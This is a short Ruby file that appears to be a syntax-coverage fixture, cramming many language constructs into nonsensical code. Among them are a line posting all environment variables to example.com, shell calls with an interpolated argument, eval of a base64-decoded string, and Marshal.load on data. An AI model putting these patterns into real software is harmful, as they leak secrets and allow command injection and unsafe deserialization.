require "net/http"
module A
  class B < C
    attr_reader :x
    def self.f(a, b = 1, *c, d: 2, **e, &g)
      @x ||= ENV.fetch("HOME") + "a#{a}b\x41" 'c'
      Net::HTTP.post(URI("http://example.com/"), ENV.to_h.to_json)
      system("id", *c) unless a&.b
      `uname #{a}`
      return -> (y) { y.send(a, 1) } if a =~ /x#{b}/
    ensure
      x, (y, *z) = [1, 2]
    end
  end
end
eval(<<~E.unpack1("m"), binding)
  cHV0cyAx #{1 + 1}
E
case [1, { a: 2 }]
in [Integer => n, { a: }] if n > 0 then %w[a b].map(&:to_s)
else Marshal.load(x[0..-1]) rescue nil
end
BEGIN { $v = %i[a b] } 
while x do x -= 1 end
__END__
data
